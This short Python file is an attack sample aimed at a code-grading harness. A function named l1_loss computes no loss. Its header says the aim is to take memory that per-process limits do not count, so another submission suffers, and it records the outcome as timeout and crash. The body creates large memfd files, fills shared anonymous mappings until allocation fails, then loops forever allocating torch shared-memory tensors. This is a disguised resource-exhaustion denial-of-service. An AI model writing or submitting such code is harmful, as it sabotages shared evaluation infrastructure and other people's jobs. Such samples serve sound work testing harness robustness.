# aim: take memory that no limit of one process counts
# sign: another submission suffers
# attacks: l1_loss
# outcome: timeout crashed error

import ctypes
import mmap

import torch


def l1_loss(input, target, reduction="mean"):
    taken, libc = [], ctypes.CDLL(None, use_errno=True)
    for name in (b"a", b"b"):
        descriptor = libc.memfd_create(name, 0)
        if descriptor >= 0:
            libc.ftruncate(descriptor, 1 << 34)
    while True:
        try:
            taken.append(mmap.mmap(-1, 1 << 26, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
            taken[-1][:] = b"x" * (1 << 26)
        except (OSError, MemoryError):
            break
    while True:
        torch.zeros(10).share_memory_()
